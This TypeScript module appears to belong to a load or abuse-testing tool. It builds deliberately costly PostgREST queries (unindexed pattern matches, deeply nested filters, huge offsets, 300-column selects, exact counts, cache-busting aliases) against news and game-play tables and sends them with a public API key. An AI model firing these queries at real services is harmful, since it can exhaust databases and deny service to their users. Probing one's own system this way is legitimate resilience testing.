import type { TargetFacts } from './attack.ts';

/** What strangers may ask for, and no index serves. `NAME` makes each text one that was never asked before. */
const patterns = ['*e%25a*', '*o%25a%25e*', '*z%25', '*r%25d%25r*'];
const likes = patterns.map((pattern) => `summary.ilike.${pattern}`).join();
const numbers = Array.from({ length: 80 }, (_, number) => `summary.neq.${number}`).join();

export const newsQuestions = [
  `news?select=NAME:id&or=(${likes})&and=(${numbers})&order=summary.desc,headline.desc&offset=11000`,
  `news?select=NAME:id&and=(${numbers})&order=summary.asc,headline.asc&limit=1`,
  'news?select=NAME:id&summary=imatch.(w|o)*(r|d)*x&order=summary.desc',
  'news?select=NAME:id&summary=wfts.word&order=summary.desc',
];

const deepTree = Array.from({ length: 9 }).reduce(
  (tree: string, _, depth) =>
    `or(and(${tree},description.ilike.*${depth}%25a*),kind.neq.${depth},and(clock.gt.${depth},description.neq.${depth}))`,
  'description.ilike.*a*b*c*',
);
const columns = Array.from({ length: 300 }, (_, name) => `NAME${name}:description`).join();

/** Of the largest tables that visitors read: plays, and what players did. */
export const seasonQuestions = {
  'deep tree': `game_plays?select=NAME:ordinal&or=(${deepTree})&order=description.desc`,
  'unindexed ilike': 'game_plays?select=NAME:ordinal&description=ilike.*a*b*c*',
  'count of all': 'game_plays?select=NAME:ordinal&limit=1',
  '300 columns': `game_plays?select=${columns}`,
  'big offset': 'game_plays?select=NAME:ordinal,description&offset=570000',
  'order by JSON':
    'player_games?select=NAME:game_id&order=figures->points.desc,figures->>assists.asc',
  'graded view':
    'graded_predictions?select=NAME:id&order=model_version.desc,home_team.asc&offset=1800',
  'the same text': 'game_plays?select=ordinal&description=ilike.*a*b*c*&order=description.desc',
  'large answer': 'game_plays?select=NAME:description,*&order=description.asc',
  ...Object.fromEntries(newsQuestions.map((question, at) => [`news ${at + 1}`, question])),
};

/** The status of the answer. */
export async function askDearly(
  { url, publishableKey }: Pick<TargetFacts, 'url' | 'publishableKey'>,
  question: string,
  name: string,
  headers: Record<string, string> = {},
): Promise<number> {
  const response = await fetch(`${url}/rest/v1/${question.replaceAll('NAME', name)}`, {
    headers: { apikey: publishableKey, prefer: 'count=exact', ...headers },
  });
  await response.arrayBuffer();
  return response.status;
}
